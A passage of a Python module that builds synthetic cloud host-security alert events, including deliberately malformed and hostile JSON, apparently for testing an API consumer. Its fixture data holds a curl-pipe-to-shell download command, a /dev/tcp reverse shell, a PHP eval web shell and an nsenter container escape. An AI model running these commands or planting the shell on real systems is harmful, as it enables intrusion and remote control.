"""Deterministic generation of HSS security events.

Every event has two parts:
  - index fields (time, type, severity, host, status, ...) drawn eagerly from
    a per-stream RNG: what the query filters need;
  - the body (every other field of the API schema), written as UTF-8 JSON
    from the event's own 64-bit seed the first time it is served (about
    20 us), then cached.
Same seed + same options => byte-identical events, whatever order they are
read in.
"""

import binascii
import hashlib
import itertools
import json
import random
import re
import struct
import uuid
import zlib

# (event_type, event_class_id, event_name, family, att_ck, attack_phase)
EVENT_TYPES = [
    (1001, "malware_0001", "Common malware", "malware", "Execution", "installation"),
    (1002, "malware_1002", "Virus", "malware", "Execution", "installation"),
    (1003, "malware_1003", "Worm", "malware", "Execution", "delivery"),
    (1004, "malware_1004", "Trojan", "malware", "Persistence", "installation"),
    (1005, "malware_1005", "Botnet", "malware", "Command and Control", "command_and_control"),
    (1006, "malware_1006", "Backdoor", "malware", "Persistence", "installation"),
    (1010, "rootkit_0001", "Rootkit", "malware", "Defense Evasion", "installation"),
    (1011, "malware_1011", "Ransomware", "malware", "Impact", "actions"),
    (1012, "malware_1012", "Hacker tool", "malware", "Execution", "weaponization"),
    (1015, "webshell_0001", "Web shell", "webshell", "Persistence", "installation"),
    (1016, "malware_1016", "Mining", "malware", "Impact", "actions"),
    (1017, "rsh_0001", "Reverse shell", "process", "Command and Control", "command_and_control"),
    (2001, "vul_exploit_0001", "Common vulnerability exploit", "vuln", "Initial Access", "exploit"),
    (2012, "vul_exploit_2012", "Remote code execution", "vuln", "Execution", "exploit"),
    (2047, "vul_exploit_2047", "Redis exploit", "vuln", "Initial Access", "exploit"),
    (2048, "vul_exploit_2048", "Hadoop exploit", "vuln", "Initial Access", "exploit"),
    (2049, "vul_exploit_2049", "MySQL exploit", "vuln", "Initial Access", "exploit"),
    (3002, "privilege_0001", "File privilege escalation", "file", "Privilege Escalation", "exploit"),
    (3003, "privilege_0002", "Process privilege escalation", "process", "Privilege Escalation", "exploit"),
    (3004, "file_0001", "Critical file change", "file", "Persistence", "actions"),
    (3005, "file_0002", "File/Directory change", "file", "Defense Evasion", "actions"),
    (3007, "proc_0001", "Abnormal process behavior", "process", "Execution", "actions"),
    (3015, "cmd_0001", "High-risk command", "process", "Execution", "actions"),
    (3018, "shell_0001", "Abnormal shell", "process", "Execution", "actions"),
    (3026, "crontab_0001", "Crontab privilege escalation", "file", "Privilege Escalation", "installation"),
    (3027, "crontab_0002", "Suspicious crontab task", "file", "Persistence", "installation"),
    (3029, "sys_0001", "System protection disabled", "process", "Defense Evasion", "actions"),
    (3030, "backup_0001", "Backup deletion", "process", "Impact", "actions"),
    (3031, "registry_0001", "Abnormal registry operation", "registry", "Persistence", "installation"),
    (3036, "image_0001", "Container image blocking", "image", "Initial Access", "delivery"),
    (4002, "login_1001", "Brute-force attack", "login", "Credential Access", "exploit"),
    (4004, "login_1002", "Abnormal login", "login", "Initial Access", "exploit"),
    (4006, "login_1003", "Invalid system account", "account", "Persistence", "installation"),
    (4014, "usr_0001", "User account added", "account", "Persistence", "installation"),
    (4020, "pwd_0001", "Password theft", "account", "Credential Access", "actions"),
    (6002, "port_scan_0001", "Port scan", "scan", "Reconnaissance", "reconnaissance"),
    (6003, "host_scan_0001", "Host scan", "scan", "Reconnaissance", "reconnaissance"),
    (13001, "k8s_1001", "Kubernetes event deletion", "k8s", "Defense Evasion", "actions"),
    (13002, "k8s_1002", "Abnormal pod behavior", "k8s", "Execution", "actions"),
    (13003, "k8s_1003", "User-info enumeration", "k8s", "Reconnaissance", "reconnaissance"),
    (13004, "k8s_1004", "Cluster role binding", "k8s", "Privilege Escalation", "installation"),
]
TYPE_BY_ID = {t[0]: t for t in EVENT_TYPES}
HOST_TYPES = [t for t in EVENT_TYPES if t[0] < 13000 and t[0] != 3036]
CONTAINER_TYPES = EVENT_TYPES + [t for t in EVENT_TYPES
                                 if t[0] >= 13000 or t[0] == 3036] * 3

SEVERITIES = ["Security", "Low", "Medium", "High", "Critical"]
SEVERITY_W = [0.05, 0.25, 0.60, 0.88, 1.0]         # cumulative
HANDLE_STATUS = ["unhandled", "handled"]
ATTACK_TAGS = ["attack_success", "attack_attempt", "attack_blocked",
               "abnormal_behavior", "collapsible_host", "system_vulnerability"]
ASSET_VALUES = ["important", "common", "test"]
ATT_CK = ["Reconnaissance", "Initial Access", "Execution", "Persistence",
          "Privilege Escalation", "Defense Evasion", "Credential Access",
          "Command and Control", "Impact"]
ATTACK_PHASES = ["reconnaissance", "weaponization", "delivery", "exploit",
                 "installation", "command_and_control", "actions"]
HANDLE_METHODS = ["mark_as_handled", "ignore", "add_to_alarm_whitelist",
                  "add_to_login_whitelist", "isolate_and_kill"]
ENTERPRISE_PROJECTS = ["0", "ep-finance", "ep-dev"]
EP_W = [0.5, 0.75, 1.0]
TAGS = ["Hot Event", "APT", "Ransomware", "Mining", "Exploit", "热点事件",
        "hot event"]
HANDLERS = ["admin", "secops", "王伟", "محمد", "ops-😀", "auto-remediation"]
USERS = ["root", "admin", "ubuntu", "zhangsan", "张三", "مستخدم", "משתמש",
         "user😀", "svc_backup", "Ⅻ-ünïcødé", "a" * 64]
HOST_NAMES = ["web-%02d", "db-prod-%02d", "数据库服务器-%02d", "خادم-الويب-%02d",
              "שרת-יישומים-%02d", "app-🚀-%02d", "Ünïcödé-host-%02d",
              "k8s-node-%02d", "ecs-win-%02d", "ecs-" + "long" * 60 + "-%02d"]
IMAGES = ["nginx:1.25", "redis:7.2", "mysql:8.0", "busybox:latest",
          "swr.ap-southeast-1.myhuaweicloud.com/app/服务:v2",
          "registry.example.com/team/api-🚀:1.0"]
HEX = "0123456789abcdef"


def _hex(rng, n):
    return "%0*x" % (n, rng.getrandbits(4 * n))


def _uuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _ip(rng, private=True):
    if private:
        return "192.168.%d.%d" % (rng.randrange(256), rng.randrange(1, 255))
    return "%d.%d.%d.%d" % (rng.choice((49, 110, 119, 121, 159, 190)),
                            rng.randrange(256), rng.randrange(256),
                            rng.randrange(1, 255))


class Host:
    __slots__ = ("name", "id", "private_ip", "public_ip", "os_type", "os_name",
                 "os_version", "ep", "asset_value", "host_status",
                 "agent_status", "protect_status", "vm_uuid", "vpc_id",
                 "agent_id", "host_attr", "service", "micro_service",
                 "sys_arch", "os_bit", "frag")


class Container:
    __slots__ = ("name", "id", "image", "image_id", "pod", "pod_uid",
                 "namespace", "cluster_id", "cluster_name", "status",
                 "frag")


class Project:
    """One --project: its events (sorted by occur_time, insertion index)."""

    def __init__(self, pid, name, region, domain_id, seed, n_hosts):
        self.id = pid
        self.name = name
        self.region = region
        self.domain_id = domain_id
        rng = random.Random("%s:%s:hosts" % (seed, pid))
        self.hosts = []
        for i in range(n_hosts):
            h = Host()
            h.name = HOST_NAMES[i % len(HOST_NAMES)] % (i // len(HOST_NAMES))
            h.id = _uuid(rng)
            h.private_ip = _ip(rng)
            h.public_ip = _ip(rng, False) if rng.random() < 0.5 else ""
            win = "win" in h.name
            h.os_type = "Windows" if win else "Linux"
            h.os_name = "Windows Server 2019" if win else rng.choice(
                ("EulerOS", "CentOS", "Ubuntu", "Debian"))
            h.os_version = rng.choice(("2.5", "7.9", "22.04", "12", "10.0"))
            u = rng.random()
            h.ep = ENTERPRISE_PROJECTS[0 if u < EP_W[0] else
                                       1 if u < EP_W[1] else 2]
            h.asset_value = rng.choice(ASSET_VALUES)
            h.host_status = rng.choice(("ACTIVE",) * 7 +
                                       ("SHUTOFF", "BUILDING", "ERROR"))
            h.agent_status = rng.choice(("online",) * 5 + ("offline",))
            h.protect_status = rng.choice(("opened",) * 5 + ("closed",))
            h.vm_uuid = _uuid(rng)
            h.vpc_id = _uuid(rng)
            h.agent_id = _hex(rng, 64)
            h.host_attr = rng.choice(("", "cloud_host", "on_premise"))
            h.service = rng.choice(("", "cce", "ecs"))
            h.micro_service = rng.choice(("", "order-svc", "支付服务"))
            h.sys_arch = rng.choice(("x86_64", "aarch64"))
            h.os_bit = rng.choice(("64", "32"))
            h.frag = None
            self.hosts.append(h)
        self.containers = []
        for i in range(max(4, n_hosts // 2)):
            c = Container()
            c.image = IMAGES[i % len(IMAGES)]
            base = c.image.split("/")[-1].split(":")[0]
            c.name = "%s-%s-%s" % (base, _hex(rng, 4), _hex(rng, 5))
            c.id = _hex(rng, 64)
            c.image_id = "sha256:" + _hex(rng, 64)
            c.pod = "%s-pod-%d" % (base, i)
            c.pod_uid = _uuid(rng)
            c.namespace = rng.choice(("default", "kube-system", "prod", "生产"))
            c.cluster_id = _uuid(rng)
            c.cluster_name = rng.choice(("cce-prod", "cce-dev", "集群-01"))
            c.status = rng.choice(("running", "running", "terminated"))
            c.frag = None
            self.containers.append(c)
        self.seed = seed
        self.frags = {}        # cached JSON of shared sub-objects
        self.events = []       # sorted by (occur_time, idx)
        self.keys = []         # parallel (occur_time, idx) for bisect


class Event:
    __slots__ = ("idx", "project", "category", "ep", "occur_time", "event_id",
                 "seed", "etype", "severity", "attack_tag", "att_ck",
                 "host", "container", "tags", "event_count", "handle_status",
                 "handle_time", "handle_method", "handler", "u_late",
                 "u_hostile", "u_mutate", "force_late", "force_delay",
                 "force_poison", "origin", "f", "fh",
                 "json", "json_epoch", "served")

    def key(self):
        return (self.occur_time, self.idx)


def new_event(rng, project, idx, occur_time, category, now_ms, ep=None,
              origin="generated"):
    """Draw the index fields of one event from rng (the stream's RNG)."""
    r = rng.random
    e = Event()
    e.idx = idx
    e.project = project
    e.category = category
    e.occur_time = occur_time
    e.seed = rng.getrandbits(64)
    e.event_id = str(uuid.UUID(int=rng.getrandbits(128), version=4))
    types = CONTAINER_TYPES if category == "container" else HOST_TYPES
    e.etype = types[int(r() * len(types))]
    u = r()
    e.severity = SEVERITIES[0 if u < .05 else 1 if u < .25 else
                            2 if u < .60 else 3 if u < .88 else 4]
    e.attack_tag = ATTACK_TAGS[int(r() * 6)]
    e.att_ck = e.etype[4] if r() < 0.8 else ATT_CK[int(r() * 9)]
    hosts = project.hosts
    if ep is not None:
        cand = [h for h in hosts if h.ep == ep] or hosts
        e.host = cand[int(r() * len(cand))]
        e.ep = ep
    else:
        e.host = hosts[int(r() * len(hosts))]
        e.ep = e.host.ep
    cs = project.containers
    e.container = cs[int(r() * len(cs))] if category == "container" else None
    u = r()
    e.tags = () if u < 0.5 else (TAGS[int(r() * len(TAGS))],) if u < 0.9 \
        else (TAGS[0], TAGS[int(r() * len(TAGS))])
    u = r()
    e.event_count = 1 if u < 0.7 else 1 + int(r() * r() * 1000)
    if r() < 0.3:
        e.handle_status = "handled"
        e.handle_time = min(occur_time + 60000 + int(r() * 259200000), now_ms)
        e.handle_method = HANDLE_METHODS[int(r() * 5)]
        e.handler = HANDLERS[int(r() * len(HANDLERS))]
    else:
        e.handle_status = "unhandled"
        e.handle_time = e.handle_method = e.handler = None
        r()
        r()
    e.u_late = r()
    e.u_hostile = r()
    e.u_mutate = r()
    e.force_late = None
    e.force_delay = None
    e.force_poison = None
    e.origin = origin
    e.fh = None
    e.json = None
    e.json_epoch = -1
    e.served = 0
    c = e.container
    e.f = {"host_name": e.host.name, "host_id": e.host.id,
           "private_ip": e.host.private_ip, "public_ip": e.host.public_ip,
           "container_name": c.name if c else "", "event_name": e.etype[2],
           "event_class_id": e.etype[1], "tag_list": e.tags}
    return e


# ---------------------------------------------------------------- extras

def u_extra(e, k):
    """A uniform draw in [0, 1) of event e for purpose k (1: multi-byte
    id, 2: poison), from the event's seed: no extra RNG draw, so adding
    these changed no event of an existing seed."""
    d = hashlib.blake2b(e.seed.to_bytes(8, "little") + bytes([k]),
                        digest_size=8).digest()
    return int.from_bytes(d, "little") / 18446744073709551616.0


# CJK ideographs, 3 bytes each in UTF-8.
_MB_CHARS = "事件告警主机入侵检测病毒木马漏洞攻击登录暴力破解进程文件网络容器镜像"


def mb_id(event_id):
    """A multi-byte event id: the UUID, "-", and 27 CJK characters drawn
    from it: 64 characters, 118 bytes of UTF-8."""
    h = hashlib.sha256(event_id.encode("ascii")).digest()
    return event_id + "-" + "".join(_MB_CHARS[b % len(_MB_CHARS)]
                                    for b in h[:27])


POISON_KINDS = ("syntax", "nul")
# Inserted after the event_id member: "syntax" is a broken token (invalid
# JSON for any parser), "nul" a raw NUL byte inside a string (JSON wants
# control characters escaped).
_POISON = {"syntax": b'"sim_poison":tru,', "nul": b'"sim_poison":"\x00",'
           .replace(b"\\x00", b"\x00")}


def poison_json(body, event_id, kind):
    """body (the event's JSON) made invalid in the way kind says."""
    k = len(b'{"event_id":"') + len(event_id.encode("utf-8")) + 2
    return body[:k] + _POISON[kind] + body[k:]


# ---------------------------------------------------------------- hostile

HOSTILE_PIECES = ["|", "\\", "=", "]", '"', "\r", "\n", "\x00", "\udc80"]
# Fields that stay clean: the identity and the enum values the API filters on.
HOSTILE_EXEMPT = {"event_id", "severity", "handle_status", "attack_tag",
                  "asset_value", "resource_info.enterprise_project_id",
                  "resource_info.project_id"}
LONG_FIELDS = ["description", "host_name", "event_name", "event_details",
               "recommendation", "event_abstract", "container_name",
               "private_ip", "host_id", "event_class_id",
               "process_info_list[0].process_cmdline",
               "user_info_list[0].user_name", "file_info_list[0].file_path",
               "resource_info.vm_name", "tag_list[0]"]
_LONG_UNIT = "x" * 96 + "界é"           # 100 bytes of UTF-8
LONG_VALUE = _LONG_UNIT * 1024           # 102,400 bytes


def hostile_value(idx, path, value):
    """The hostile replacement of one string field of event idx."""
    if path == LONG_FIELDS[idx % len(LONG_FIELDS)]:
        return value + LONG_VALUE
    k = HOSTILE_PIECES[(idx + zlib.crc32(path.encode())) % len(HOSTILE_PIECES)]
    return "%s%sforged%s=x%s" % (value, k, k, k)


def hostile_filter_fields(e):
    out = {}
    for k, v in e.f.items():
        if k == "tag_list":
            out[k] = tuple(hostile_value(e.idx, "tag_list[%d]" % i, t)
                           for i, t in enumerate(v))
        elif v == "" and k in ("public_ip", "container_name"):
            out[k] = v                  # absent from the body
        else:
            out[k] = hostile_value(e.idx, k, v)
    return out


def _hostilize(obj, idx, path):
    if isinstance(obj, dict):
        for k, v in obj.items():
            p = path + "." + k if path else k
            if isinstance(v, str):
                if p not in HOSTILE_EXEMPT:
                    obj[k] = hostile_value(idx, p, v)
            elif isinstance(v, (dict, list)):
                _hostilize(v, idx, p)
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            p = "%s[%d]" % (path, i)
            if isinstance(v, str):
                obj[i] = hostile_value(idx, p, v)
            elif isinstance(v, (dict, list)):
                _hostilize(v, idx, p)


_SURR = re.compile("[\ud800-\udfff]")


def to_json(obj, surrogates=False):
    """Compact JSON, raw UTF-8; lone surrogates (only when surrogates is
    true: hostile events) as \\uXXXX escapes."""
    s = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    if surrogates and _SURR.search(s):
        s = _SURR.sub(lambda m: "\\u%04x" % ord(m.group()), s)
    return s.encode("utf-8")


# ---------------------------------------------------------------- body

_WORDS = ("suspicious", "process", "攻击", "检测", "تنبيه", "file", "🔥",
          "network", "connection", "kernel", "module")
_wr = random.Random(0)
_TEXT_WORDS = [_WORDS[_wr.randrange(len(_WORDS))] for _ in range(20000)]
del _wr
# Descriptions are runs of words of _TEXT (UTF-8; nothing to escape in JSON);
# _TEXT_AT[i] is the offset of word i.
_TEXT = " ".join(_TEXT_WORDS).encode("utf-8")
_TEXT_AT = list(itertools.accumulate(
    (len(w.encode("utf-8")) + 1 for w in _TEXT_WORDS), initial=0))


def _process(rng, os_type, user, k8s):
    name = rng.choice(("bash", "python3", "kworker", "xmrig", "nc", "java",
                       "powershell.exe", "进程", "sshd"))
    path = ("C:\\Windows\\System32\\" if os_type == "Windows"
            else "/usr/bin/") + name
    cmd = path + " " + rng.choice(("-c 'curl http://x.example/s|sh'",
                                   "-i >& /dev/tcp/10.0.0.1/4444 0>&1",
                                   "--donate-level 1", "-jar app.jar", ""))
    if rng.random() < 0.05:
        cmd += " " + "A" * 4096
    pid = rng.randrange(2, 4194304)
    st = rng.randrange(1600000000, 1700000000)
    fh = _hex(rng, 64)
    ppid = rng.randrange(1, pid + 1)
    return {
        "process_path": path, "process_name": name, "process_cmdline": cmd,
        "process_hash": fh, "process_filename": name,
        "process_file_hash": fh, "process_username": user,
        "process_pid": pid, "process_uid": rng.choice((0, 1000, 10000)),
        "process_gid": 0, "process_egid": 0, "process_euid": 0,
        "process_start_time": st, "block": rng.choice((0, 1)),
        "parent_process_path": "/usr/bin/bash",
        "parent_process_name": "bash", "parent_process_cmdline": "/bin/bash",
        "parent_process_filename": "bash",
        "parent_process_file_hash": _hex(rng, 64),
        "parent_process_pid": ppid, "parent_process_uid": 0,
        "parent_process_gid": 0, "parent_process_egid": 0,
        "parent_process_euid": 0, "parent_process_start_time": st - 5,
        "child_process_path": "/usr/bin/sh", "child_process_name": "sh",
        "child_process_cmdline": "sh -c id", "child_process_filename": "sh",
        "child_process_pid": pid + 1, "child_process_uid": 0,
        "child_process_gid": 0, "child_process_egid": 0,
        "child_process_euid": 0, "child_process_start_time": st + 1,
        "virt_process_name": name if k8s else "",
        "virt_cmd": cmd if k8s else "",
        "escape_cmd": "nsenter -t 1 -m sh" if k8s else "",
        "escape_mode": rng.choice(("0", "1")),
        "ancestor_process_pid": 1, "ancestor_process_cmdline": "/sbin/init",
        "ancestor_process_path": "/sbin/init"}


class FastRng:
    """random.Random's few methods used here, cheaper (no rejection
    sampling); deterministic for a seed."""
    __slots__ = ("random", "getrandbits")

    def __init__(self, seed):
        r = random.Random(seed)
        self.random = r.random
        self.getrandbits = r.getrandbits

    def randrange(self, a, b=None):
        if b is None:
            return int(self.random() * a)
        return a + int(self.random() * (b - a))

    def choice(self, seq):
        return seq[int(self.random() * len(seq))]

    def uniform(self, a, b):
        return a + (b - a) * self.random()


def _resource_info(p, e):
    h, c = e.host, e.container
    return {
        "domain_id": p.domain_id, "project_id": p.id,
        "enterprise_project_id": e.ep, "region_name": p.region,
        "vpc_id": h.vpc_id, "cloud_id": h.vm_uuid, "vm_name": h.name,
        "vm_uuid": h.vm_uuid,
        "container_id": c.id if c else "",
        "container_status": c.status if c else "",
        "pod_uid": c.pod_uid if c else "", "pod_name": c.pod if c else "",
        "namespace": c.namespace if c else "",
        "cluster_id": c.cluster_id if c else "",
        "cluster_name": c.cluster_name if c else "",
        "image_id": c.image_id if c else "", "image_name": c.image if c else "",
        "host_attr": h.host_attr, "service": h.service,
        "micro_service": h.micro_service, "sys_arch": h.sys_arch,
        "os_bit": h.os_bit, "os_type": h.os_type, "os_name": h.os_name,
        "os_version": h.os_version}


def _frag_resource(p, e):
    """resource_info as UTF-8 JSON, shared by the events of one host,
    container and enterprise project."""
    key = ("ri", e.host.id, e.container.id if e.container else None, e.ep)
    f = p.frags.get(key)
    if f is None:
        f = p.frags[key] = to_json(_resource_info(p, e))
    return f


def _frag_process(p, os_type, k8s, variant):
    """One process_info_list entry as UTF-8 JSON, from a pool of 16 per
    project, OS and k8s-ness (the same processes show up on many hosts)."""
    key = ("pi", os_type, k8s, variant)
    f = p.frags.get(key)
    if f is None:
        rng = FastRng("%s:%s:%s:%s:%d" % (p.seed, p.id, os_type, k8s,
                                          variant))
        f = p.frags[key] = to_json(_process(
            rng, os_type, USERS[variant % len(USERS)], k8s))
    return f


# ---------------------------------------------------------------- body
#
# The clean body is written as UTF-8 JSON directly: fixed parts are
# constants, pool values are encoded once, the fragments of a type, a host,
# a container, a resource_info and a process are cached.  Its randomness
# comes from SHAKE-128 of the event's seed: DRAW_BYTES bytes drawn one at a
# time (b(), in a fixed order), DRAW_WORDS 16-bit words likewise (w()), and
# HEX_BYTES bytes turned into the hex digits of the hashes (at fixed
# offsets, _HX_*).  A hostile body is the clean one decoded, made hostile
# and encoded again.

def _jb(v):
    """str -> JSON string as UTF-8 bytes (raw non-ASCII, like to_json)."""
    return json.encoder.encode_basestring(v).encode("utf-8")


def _jbs(seq):
    return tuple(_jb(v) for v in seq)


def _ab(seq):
    return tuple(v.encode("ascii") for v in seq)


DRAW_BYTES = 128           # at most 78 are drawn (every branch taken)
DRAW_WORDS = 40            # at most 22
_WORDS_LE = struct.Struct("<%dH" % DRAW_WORDS)
HEX_BYTES = 220            # 440 hex digits:
_HX_FHASH = 0              # 64
_HX_SALT = 64              # 16
_HX_PWD = 80               # 40
_HX_FILE = 120             # 160 per file_info entry, at most 2

_PUB_FIRST = (49, 110, 119, 121, 159, 190)
_USERS_J = _jbs(USERS)
_HOMES_J = _jbs("/home/" + u for u in USERS)
_HANDLERS_J = {h: _jb(h) for h in HANDLERS}
_TAGS_J = {t: _jb(t) for t in TAGS}
_ASCII = {v: v.encode("ascii") for v in SEVERITIES + ATTACK_TAGS +
          ATTACK_PHASES + HANDLE_METHODS}
_FPATHS = ("/usr/test", "/tmp/.x/kthreadd", "/var/www/shell.jsp",
           "C:\\Users\\Public\\a.exe", "/root/挖矿")
# (file_path, keyword, event_details)
_FPATHS_J = tuple((_jb(f), _jb("file_path=" + f), _jb("file_path:" + f))
                  for f in _FPATHS)
_COUNTRIES_J = _jbs(("China", "Germany", "Brazil", "中国"))
_CITIES_J = _jbs(("Lanzhou", "Berlin", "São Paulo", "兰州"))
_GEO_COUNTRIES_J = _jbs(("China", "日本", "Россия"))
_GEO_CITIES_J = _jbs(("Xi'an", "東京", "Москва"))
_LOCAL_PORTS = (22, 80, 443, 3306, 6379)
_LAT = 180 / 2 ** 24       # degrees per step of a 24-bit draw
_LON = 360 / 2 ** 24
_FAMILIES_J = _jbs(("Mirai", "XMRig", "WannaCry", "China Chopper"))
_ENGINES = (b"hss-av", b"yara")
_DOMAINS_J = _jbs(("www.example.com", "例子.中国"))
_APPS = _ab(("tomcat", "redis", "mysql", "hadoop"))
_EXTEND = (b',"extend_info":""',
           b',"extend_info":{"source":"hss","rule_id":%d}',
           b',"extend_info":' + _jb(json.dumps({"raw": "value"})))
_RECS_J = _jbs(("Isolate the file and check the host.",
                "请检查登录来源是否可信。", "تحقق من العملية", ""))
_GROUPS_J = _jbs(("root", "wheel", "用户组"))
_SERVICES = _ab(("ssh", "rdp", "mysql", "ftp"))
_SERVICE_PORTS = (22, 3389, 3306, 21)
_FUZZ = _ab(("", "pa*****rd"))
_FNAMES = ("passwd", "shadow", "crontab", "index.jsp", "木马.php",
           "payload.exe", "authorized_keys")
_FDIRS = ("/etc/", "/var/www/html/", "/tmp/", "/root/.ssh/", "/home/用户/")
# (file_path, file_alias, file_key_word) by directory and name
_FILES_J = tuple((_jb(d + n), _jb(n), _jb("file_path=" + d + n))
                 for d in _FDIRS for n in _FNAMES)
_FTYPES = _ab(("ELF", "text", "PE32"))
_FCONTENTS_J = _jbs(("", "<?php eval($_POST['x']);?>"))
_FATTRS = _ab(("33261", "33188", "16877"))
_FOPS = (1, 2, 4)
_FACTIONS = _ab(("create", "modify", "delete", "rename"))
_FCHANGES = _ab(("", "mode", "owner"))
_REG_KEY_J = _jb("HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")
_TRUE_FALSE = (b"false", b"true")
_TCP_UDP = (b"tcp", b"udp")
_IN_OUT = (b"in", b"out")


def _accept(fam):
    return json.dumps(["ignore", "mark_as_handled"] + (
        ["isolate_and_kill"] if fam in ("malware", "webshell") else
        ["add_to_login_whitelist"] if fam == "login" else
        ["add_to_alarm_whitelist"]), separators=(",", ":")).encode("ascii")


# By event type: (its members after event_id, its event_name, its
# operate_accept_list when unhandled, has geo_info and network_info)
_TYPE_J = {t[0]: (b'"event_class_id":%s,"event_type":%d,"event_name":%s' % (
    _jb(t[1]), t[0], _jb(t[2])), _jb(t[2]), _accept(t[3]),
    t[3] in ("login", "scan", "vuln", "k8s") or t[0] == 1017)
    for t in EVENT_TYPES}
_PROC_FAMS = frozenset(("process", "malware", "webshell", "k8s", "image"))
_USER_FAMS = frozenset(("login", "account"))
_FILE_FAMS = frozenset(("file", "malware", "webshell", "registry"))

_OD = (b'{"agent_id":%s,"process_pid":%d,"is_parent":%s,"file_hash":"%s",'
       b'"file_path":%s,"file_attr":%s,"private_ip":%s,"login_ip":'
       b'"%d.%d.%d.%d","login_user_name":%s,"keyword":%s,"hash":"%s"}')
_FORENSIC = (b',"forensic_info":{"country":%s,"city":%s,"ip":"%d.%d.%d.%d",'
             b'"user":%s,"sub_division":"Gansu","city_id":%d}')
_GEO = (b',"geo_info":{"src_ip":"%d.%d.%d.%d","country_id":%d,'
        b'"country_name":%s,"city_id":%d,"city_name":%s,"latitude":%a,'
        b'"longitude":%a},"network_info":{"local_ip":%s,"local_port":%d,'
        b'"remote_ip":"%d.%d.%d.%d","remote_port":%d,"protocol":"%s",'
        b'"direction":"%s"}')
_MALWARE = (b',"malware_info":{"malware_family":%s,"malware_class":%s,'
            b'"file_hash":"%s","file_path":%s,"detect_engine":"%s"}')
_APP = (b',"app_info":{"domain_name":%s,"app_name":"%s","url":'
        b'"/index.jsp?cmd=id","http_method":"POST",'
        b'"cve_id":"CVE-20%02d-%05d"}')
_SYSTEM = (b',"system_info":{"system_env":%s,"reg_key":%s,"reg_value":"",'
           b'"service_name":"sshd"}')
_USER = (b',"user_info_list":[{"user_id":%d,"user_gid":%d,"user_name":%s,'
         b'"user_group_name":%s,"user_home_dir":%s,'
         b'"login_ip":"%d.%d.%d.%d","service_type":"%s","service_port":%d,'
         b'"login_mode":%d,"login_last_time":%d,"login_fail_count":%d,'
         b'"pwd_hash":"$6$%s$%s","pwd_with_fuzzing":"%s","pwd_used_days":%d,'
         b'"pwd_min_days":0,"pwd_max_days":99999,"pwd_warn_left_days":7}]')
_FILE = (b'{"file_path":%s,"file_alias":%s,"file_size":%d,"file_mtime":%d,'
         b'"file_atime":%d,"file_ctime":%d,"file_hash":"%s","file_md5":"%s",'
         b'"file_sha256":"%s","file_type":"%s","file_content":%s,'
         b'"file_attr":"%s","file_operation":%d,"file_action":"%s",'
         b'"file_change_attr":"%s","file_new_path":"","file_desc":"",'
         b'"file_key_word":%s,"is_dir":false,"fd_info":"","fd_count":%d}')


def _host_frag(h):
    """(its members host_name ... asset_value, agent_id, private_ip,
    os_name) of a host, as UTF-8 JSON."""
    m = b'"host_name":%s,"host_id":%s,"private_ip":%s,' % (
        _jb(h.name), _jb(h.id), _jb(h.private_ip))
    if h.public_ip:
        m += b'"public_ip":%s,' % _jb(h.public_ip)
    m += b'"os_type":%s,"host_status":%s,"agent_status":%s,' \
        b'"protect_status":%s,"asset_value":%s' % _jbs(
            (h.os_type, h.host_status, h.agent_status, h.protect_status,
             h.asset_value))
    h.frag = (m, _jb(h.agent_id), _jb(h.private_ip), _jb(h.os_name))
    return h.frag


def _container_frag(c):
    c.frag = b'"container_name":%s,"image_name":%s,' % (_jb(c.name),
                                                        _jb(c.image))
    return c.frag


def body_clean(e):
    """The API event of e without hostile strings, as UTF-8 JSON (keys in
    a fixed order)."""
    dg = hashlib.shake_128(e.seed.to_bytes(8, "little")).digest(
        DRAW_BYTES + 2 * DRAW_WORDS + HEX_BYTES)
    b = iter(dg[:DRAW_BYTES]).__next__           # a random byte
    w = iter(_WORDS_LE.unpack_from(dg, DRAW_BYTES)).__next__    # 16 bits
    hx = binascii.hexlify(dg[DRAW_BYTES + 2 * DRAW_WORDS:])
    h, c, t, p = e.host, e.container, e.etype, e.project
    fam = t[3]
    t_members, t_name, t_accept, t_geo = _TYPE_J[t[0]]
    h_members, agent_j, ip_j, os_name_j = h.frag or _host_frag(h)
    ui = b() % len(USERS)
    user_j = _USERS_J[ui]
    fpath_j, keyword_j, details_j = _FPATHS_J[b() % len(_FPATHS)]
    fhash = hx[_HX_FHASH:_HX_FHASH + 64]
    o = [b'{"event_id":"', e.event_id.encode("utf-8"), b'",', t_members,
         b',"severity":"', _ASCII[e.severity], b'",']
    if c is not None:
        o.append(c.frag or _container_frag(c))
    o += (h_members, b',"attack_phase":"', _ASCII[t[5]],
          b'","attack_tag":"', _ASCII[e.attack_tag], b'","occur_time":%d' %
          e.occur_time)
    if e.handle_status == "handled":
        o += (b',"handle_time":%d,"handle_status":"handled",'
              b'"handle_method":"' % e.handle_time,
              _ASCII[e.handle_method], b'","handler":',
              _HANDLERS_J.get(e.handler) or _jb(e.handler),
              b',"operate_accept_list":[]')
    else:
        o += (b',"handle_status":"unhandled","operate_accept_list":',
              t_accept)
    # The official example has a number in file_attr where the schema says
    # string.
    o += (b',"operate_detail_list":[', b",".join([
        _OD % (agent_j, 2 + w() % 65534, _TRUE_FALSE[i], fhash, fpath_j,
               b"33261" if b() < 205 else b'"33261"', ip_j,
               _PUB_FIRST[b() % 6], b(), b(), 1 + b() % 254, user_j,
               keyword_j, fhash)
        for i in range(1 + (b() < 51))]), b"]")
    o.append(_FORENSIC % (_COUNTRIES_J[b() % 4], _CITIES_J[b() % 4],
                          _PUB_FIRST[b() % 6], b(), b(), 1 + b() % 254,
                          user_j, 1 + w() % 9999))
    if t_geo:
        o.append(_GEO % (
            _PUB_FIRST[b() % 6], b(), b(), 1 + b() % 254, 1 + b() % 249,
            _GEO_COUNTRIES_J[b() % 3], 1 + w() % 9999,
            _GEO_CITIES_J[b() % 3], round((w() << 8 | b()) * _LAT - 90, 4),
            round((w() << 8 | b()) * _LON - 180, 4), ip_j,
            _LOCAL_PORTS[b() % 5], _PUB_FIRST[b() % 6], b(), b(),
            1 + b() % 254, 1024 + w() % 64512, _TCP_UDP[b() & 1],
            _IN_OUT[b() & 1]))
    if fam in ("malware", "webshell"):
        o.append(_MALWARE % (_FAMILIES_J[b() % 4], t_name, fhash, fpath_j,
                             _ENGINES[b() & 1]))
    if fam in ("vuln", "webshell"):
        o.append(_APP % (_DOMAINS_J[b() & 1], _APPS[b() % 4], 10 + b() % 15,
                         w() % 99999))
    if fam in ("registry", "process", "account"):
